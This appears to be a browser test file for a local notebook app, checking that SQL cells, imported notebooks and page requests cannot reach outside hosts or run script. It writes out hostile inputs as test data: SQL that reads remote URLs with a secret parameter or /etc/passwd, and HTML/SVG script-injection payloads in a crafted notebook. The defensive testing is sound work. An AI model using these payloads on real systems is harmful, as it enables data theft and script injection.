import { describe, expect, test } from "vitest";
import { dropFiles } from "./open-page";
import { sharedPage } from "./shared-page";

const newNotebook = sharedPage();

const attempts = [
  "select * from read_csv('https://example.com/leak.csv?secret=1')",
  "select * from 'https://example.com/leak.csv'",
  "from read_parquet('https://example.com/leak.parquet')",
  "select * from read_json('https://example.com/x.json')",
  "select * from glob('*')",
  "from read_text('/etc/passwd')",
];

describe("nothing leaves", () => {
  test("SQL cannot reach any address or file", async () => {
    const { page, foreign } = await newNotebook();
    await dropFiles(page, { name: "events.csv", text: "user,time\n1,2024-01-01\n2,2024-01-02\n" });
    await page.getByRole("heading", { name: /^events/ }).waitFor();
    for (const attempt of attempts) {
      await page.locator(".insert-bar.is-always").getByRole("button", { name: "SQL" }).click();
      await page.locator(".monaco-editor").waitFor();
      await page.keyboard.insertText(attempt);
      await page.keyboard.press("Control+Enter");
      const cell = page.locator("[data-cell].is-selected");
      await cell.locator(".status-mark.is-failed").waitFor();
      await page.keyboard.press("Escape");
    }
    expect(foreign).toEqual([]);
  });

  test("a notebook's text and saved results load nothing and run nothing", async () => {
    const { page, foreign, errors } = await newNotebook();
    const hostile = `# hi <img src="https://example.com/a.png" onerror="window.broken=1">
![x](https://example.com/b.png) <script>window.broken=1</script> <iframe src="https://example.com"></iframe>
<style>body{background:url(https://example.com/c.png)}</style> <svg onload="window.broken=1"></svg>
[click](javascript:window.broken=1)`;
    const cell = (extra: object) => ({ id: "a1", metadata: {}, source: hostile, ...extra });
    const notebook = {
      nbformat: 4,
      nbformat_minor: 5,
      metadata: { title: hostile },
      cells: [
        cell({ cell_type: "markdown" }),
        cell({
          id: "a2",
          cell_type: "code",
          execution_count: null,
          metadata: { ebb: { kind: "sql", name: '"><script>window.broken=1</script>' } },
          outputs: [
            {
              output_type: "display_data",
              metadata: {},
              data: { "text/html": hostile, "image/svg+xml": hostile },
            },
          ],
        }),
      ],
    };
    await dropFiles(page, { name: "hostile.ipynb", text: JSON.stringify(notebook) });
    await page.locator("[data-cell]").nth(1).waitFor();
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(await page.evaluate(() => (window as { broken?: number }).broken)).toBeUndefined();
    expect(foreign).toEqual([]);
    expect(errors).toEqual([]);
  });

  test("the page's rules hold: fetch, image and socket to elsewhere are refused", async () => {
    const { page } = await newNotebook();
    const refused = await page.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", (event) =>
        violations.push(event.effectiveDirective),
      );
      await fetch("https://example.com/").catch(() => undefined);
      new Image().src = "https://example.com/x.png";
      new WebSocket("wss://example.com/");
      await new Promise((resolve) => setTimeout(resolve, 300));
      return violations;
    });
    expect(refused).toEqual(expect.arrayContaining(["connect-src", "img-src"]));
    // The counter says what the browser stopped, and that nothing went out.
    await page.getByRole("button", { name: "On this computer only" }).click();
    expect(await page.locator(".counter strong").textContent()).toBe("0");
  });
});
